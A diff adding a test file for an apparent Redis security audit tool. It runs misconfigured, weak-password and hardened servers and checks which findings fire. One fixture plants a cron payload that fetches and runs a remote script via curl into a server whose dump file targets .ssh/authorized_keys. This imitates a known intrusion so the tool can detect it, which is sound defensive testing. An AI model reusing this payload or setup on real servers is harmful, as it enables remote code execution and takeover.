@@ -1,0 +1,303 @@
+/**
+ * `redscope audit` against real redis-server processes: a badly configured one (in a network
+ * namespace of its own, so it can listen on all of its interfaces), a weak-password one and a
+ * well configured TLS-only one. Every check fires on its bad config and stays quiet on the good
+ * one; the audit changes nothing on the server; passwords never appear in the output.
+ */
+import assert from "node:assert/strict";
+import fs from "node:fs";
+import net from "node:net";
+import os from "node:os";
+import path from "node:path";
+import { after, before, describe, test } from "node:test";
+import { type RedisProcess, startRedis } from "../src/lab/redis.js";
+import { encodeCommand, ReplyDecoder } from "../src/resp/index.js";
+import type { RespValue } from "../src/resp/types.js";
+import { makeCert } from "./helpers/certs.js";
+import { runCli } from "./helpers/cli.js";
+import { canMakeNetns, createTestHost, type TestHost } from "./helpers/netns.js";
+import { freePort } from "./helpers/ports.js";
+
+const GOOD_SECRET = "kq7-Wd93-long-audit-secret-4711";
+
+/** One command on a fresh plain connection (test setup and before/after snapshots). */
+async function call(host: string, port: number, ...args: string[]): Promise<RespValue> {
+  return new Promise((resolve, reject) => {
+    const s = net.connect({ host, port }, () => s.write(encodeCommand(args)));
+    const d = new ReplyDecoder();
+    s.on("data", (c) => {
+      const v = d.push(c);
+      if (v.length > 0) {
+        s.destroy();
+        resolve(v[0]!);
+      }
+    });
+    s.on("error", reject);
+    setTimeout(() => {
+      s.destroy();
+      reject(new Error(`no reply to ${args[0]}`));
+    }, 5000).unref();
+  });
+}
+
+function text(v: RespValue): string {
+  return v.type === "bulk" && v.value
+    ? v.value.toString("latin1")
+    : v.type === "simple"
+      ? v.value
+      : "";
+}
+
+/** CONFIG GET * as sorted `name=value` lines, and the INFO fields that a write would move. */
+async function snapshot(
+  host: string,
+  port: number,
+): Promise<{ config: string[]; state: string[] }> {
+  const c = await call(host, port, "CONFIG", "GET", "*");
+  const flat = c.type === "array" && c.value ? c.value.map(text) : [];
+  const config: string[] = [];
+  for (let i = 0; i + 1 < flat.length; i += 2) config.push(`${flat[i]}=${flat[i + 1]}`);
+  const info = text(await call(host, port, "INFO", "all"));
+  const state = info
+    .split("\r\n")
+    .filter((l) =>
+      /^(db\d+|rdb_changes_since_last_save|role|master_host|connected_slaves|aof_enabled|module):/.test(
+        l,
+      ),
+    );
+  return { config: config.sort(), state };
+}
+
+interface Report {
+  target: string;
+  findings: Array<{ id: string; severity: string; evidence: string; remediation: string }>;
+  notChecked: Array<{ id: string; reason: string }>;
+  error?: string;
+}
+
+describe("redscope audit", {
+  skip: canMakeNetns() ? false : "needs root for a network namespace",
+}, () => {
+  const procs: RedisProcess[] = [];
+  let host: TestHost;
+  let tmp = "";
+  let bad = "";
+  let weak = "";
+  let good = "";
+  let badPort = 0;
+
+  before(async () => {
+    tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-audit-"));
+    host = createTestHost("audit");
+    // The bad server: all interfaces (of its namespace), no password, protected mode off, the
+    // 7.0 admin switches on, dir in a .ssh directory, replicating from an unknown master (the
+    // root side of the veth, where nothing listens: its attempts stay on the pair).
+    const ssh = path.join(tmp, "home", ".ssh");
+    fs.mkdirSync(ssh, { recursive: true });
+    badPort = 6379;
+    procs.push(
+      await startRedis({
+        host: "0.0.0.0",
+        port: badPort,
+        netns: host.ns,
+        config: [
+          "protected-mode no",
+          "enable-debug-command yes",
+          "enable-module-command yes",
+          "enable-protected-configs yes",
+          `dir ${ssh}`,
+          "dbfilename authorized_keys",
+          "user bob on >bobpass ~* +@all",
+          `replicaof ${host.localIp} 1`,
+          "replica-read-only no",
+        ],
+      }),
+    );
+    bad = `redis://${host.hostIp}:${badPort}`;
+    await call(
+      host.hostIp,
+      badPort,
+      "SET",
+      "backup1",
+      "\n\n*/1 * * * * curl -fsSL http://x.example/a.sh | sh\n\n",
+    );
+
+    const weakPort = await freePort();
+    procs.push(
+      await startRedis({ host: "127.0.0.1", port: weakPort, config: ["requirepass foobared"] }),
+    );
+    weak = `redis://127.0.0.1:${weakPort}`;
+
+    // The good server: TLS only, default user off, an application user and an auditor with
+    // just what the audit reads, memory capped, AOF on.
+    const certs = makeCert(tmp);
+    const tlsPort = await freePort();
+    procs.push(
+      await startRedis({
+        host: "127.0.0.1",
+        port: 0,
+        readyPort: tlsPort,
+        config: [
+          `tls-port ${tlsPort}`,
+          `tls-cert-file ${certs.cert}`,
+          `tls-key-file ${certs.key}`,
+          `tls-ca-cert-file ${certs.cert}`,
+          "tls-auth-clients no",
+          "user default off",
+          `user app on >${GOOD_SECRET}-app ~app:* &* -@all +@read +@write +@connection -@dangerous`,
+          `user auditor on >${GOOD_SECRET} ~* -@all +ping +auth +hello +info +config|get +acl|whoami +acl|list +acl|dryrun +command|info +select +scan`,
+          "maxmemory 64mb",
+          "appendonly yes",
+        ],
+      }),
+    );
+    good = `rediss://auditor:${encodeURIComponent(GOOD_SECRET)}@127.0.0.1:${tlsPort}`;
+  });
+
+  after(async () => {
+    for (const p of procs) await p.stop();
+    host?.destroy();
+    fs.rmSync(tmp, { recursive: true, force: true });
+  });
+
+  async function audit(
+    args: string[],
+    env: NodeJS.ProcessEnv = {},
+  ): Promise<{ code: number | null; reports: Report[]; out: string }> {
+    const r = await runCli(["audit", "-f", "json", "--timeout", "3s", ...args], { env });
+    assert.equal(r.stderr, "", r.stderr);
+    return {
+      code: r.code,
+      reports: (JSON.parse(r.stdout) as { reports: Report[] }).reports,
+      out: r.stdout,
+    };
+  }
+
+  test("every check fires on the bad server, and the audit changes nothing there", async () => {
+    const before = await snapshot(host.hostIp, badPort);
+    const { code, reports } = await audit([bad]);
+    const after = await snapshot(host.hostIp, badPort);
+    assert.deepEqual(after, before, "CONFIG GET * and the server's state are unchanged");
+    assert.equal(code, 1);
+    const r = reports[0]!;
+    assert.equal(r.error, undefined);
+    const ids = new Set(r.findings.map((f) => f.id));
+    for (const id of [
+      "RS-AUTH-001",
+      "RS-NET-001",
+      "RS-NET-002",
+      "RS-ACL-001",
+      "RS-ACL-002",
+      "RS-TLS-001",
+      "RS-CMD-001",
+      "RS-CMD-002",
+      "RS-REPL-001",
+      "RS-IOC-001",
+      "RS-IOC-002",
+      "RS-VER-001",
+      "RS-PERSIST-001",
+    ]) {
+      assert.ok(ids.has(id), `${id} fires: ${JSON.stringify([...ids])}`);
+    }
+    assert.deepEqual(r.notChecked, []);
+    const acl2 = r.findings.filter((f) => f.id === "RS-ACL-002").map((f) => f.evidence);
+    assert.deepEqual(acl2.sort(), ["user bob: +@all ~*", "user default: +@all ~*"]);
+    const cmd2 = r.findings.filter((f) => f.id === "RS-CMD-002").map((f) => f.evidence);
+    assert.deepEqual(cmd2.sort(), [
+      "enable-debug-command yes",
+      "enable-module-command yes",
+      "enable-protected-configs yes",
+    ]);
+    assert.match(
+      r.findings.find((f) => f.id === "RS-REPL-001")!.evidence,
+      new RegExp(`replicating from ${host.localIp.replace(/\./g, "\\.")}:1`),
+    );
+    assert.match(r.findings.find((f) => f.id === "RS-IOC-002")!.evidence, /db0:"backup1"/);
+    // The expected peer is not a finding.
+    const allowed = await audit([bad, "--allow-peer", host.localIp]);
+    assert.ok(!allowed.reports[0]!.findings.some((f) => f.id === "RS-REPL-001"));
+  });
+
+  test("a password from the built-in list is found, tried against the audited server only", async () => {
+    const { code, reports, out } = await audit([weak], { REDISCLI_AUTH: "foobared" });
+    assert.equal(code, 1);
+    const weakFindings = reports[0]!.findings.filter((f) => f.id === "RS-AUTH-002");
+    assert.equal(weakFindings.length, 2, JSON.stringify(weakFindings));
+    assert.ok(weakFindings.some((f) => f.severity === "critical"));
+    assert.ok(!out.includes("foobared"), "the password is never printed");
+  });
+
+  test("the good server: nothing but the version's CVEs; exit 0 without them", async () => {
+    const { code, reports, out } = await audit([good, "--tls-insecure"]);
+    const r = reports[0]!;
+    assert.equal(r.error, undefined);
+    assert.deepEqual(
+      r.findings.map((f) => f.id),
+      ["RS-VER-001"],
+      JSON.stringify(r.findings, null, 1),
+    );
+    assert.deepEqual(r.notChecked, []);
+    assert.equal(code, 1, "Debian's 7.0 has CVEs of CVSS 10");
+    assert.ok(!out.includes(GOOD_SECRET), "the password is never printed");
+    assert.match(r.target, /^rediss:\/\/auditor@127\.0\.0\.1:\d+$/);
+    const quiet = await audit([good, "--tls-insecure", "--skip", "RS-VER-001"]);
+    assert.equal(quiet.code, 0);
+  });
+
+  test("a user without the rights is told what was not checked, not that it passed", async () => {
+    const app = good.replace(
+      `auditor:${encodeURIComponent(GOOD_SECRET)}`,
+      `app:${encodeURIComponent(`${GOOD_SECRET}-app`)}`,
+    );
+    const { reports } = await audit([app, "--tls-insecure", "--skip", "RS-VER-001"]);
+    const r = reports[0]!;
+    const skipped = new Map(r.notChecked.map((n) => [n.id, n.reason]));
+    for (const id of ["RS-NET-001", "RS-ACL-001", "RS-IOC-001"]) {
+      assert.match(skipped.get(id) ?? "", /NOPERM/, `${id}: ${JSON.stringify(r.notChecked)}`);
+    }
+  });
+
+  test("text and SARIF; bad input is one line and exit 2", async () => {
+    const t = await runCli(["audit", bad, "--timeout", "3s"]);
+    assert.equal(t.code, 1);
+    assert.match(t.stdout, /CRITICAL RS-AUTH-001 {2}reachable without authentication/);
+    assert.match(t.stdout, /fix: {2}requirepass/);
+    const s = await runCli(["audit", bad, "-f", "sarif", "--timeout", "3s"]);
+    const sarif = JSON.parse(s.stdout) as {
+      version: string;
+      runs: Array<{
+        tool: { driver: { rules: Array<{ id: string }> } };
+        results: Array<{ ruleId: string; level: string }>;
+      }>;
+    };
+    assert.equal(sarif.version, "2.1.0");
+    const rules = new Set(sarif.runs[0]!.tool.driver.rules.map((x) => x.id));
+    for (const res of sarif.runs[0]!.results) assert.ok(rules.has(res.ruleId), res.ruleId);
+    assert.ok(
+      sarif.runs[0]!.results.some((x) => x.ruleId === "RS-AUTH-001" && x.level === "error"),
+    );
+    for (const [args, msg] of [
+      [["audit", "http://x:1"], /^redscope: "http:\/\/x:1": use redis:\/\/ or rediss:\/\/\n$/],
+      [
+        ["audit", "redis://u:hunter2@h:1", "--fail-on", "bad"],
+        /^redscope: --fail-on "bad": use one of/,
+      ],
+      [["audit"], /^redscope: no target/],
+      [["audit", "--skip", "RS-NOPE", "redis://h:1"], /^redscope: --skip "RS-NOPE": no such check/],
+    ] as const) {
+      const r = await runCli([...args]);
+      assert.equal(r.code, 2, r.stderr);
+      assert.match(r.stderr, msg);
+      assert.ok(!r.stderr.includes("hunter2"));
+    }
+    // A server that is not there: reported as not audited, exit 1.
+    const gone = await runCli([
+      "audit",
+      `redis://127.0.0.1:${await freePort()}`,
+      "--timeout",
+      "1s",
+    ]);
+    assert.equal(gone.code, 1);
+    assert.match(gone.stdout, /could not audit: .*ECONNREFUSED/);
+  });
+});
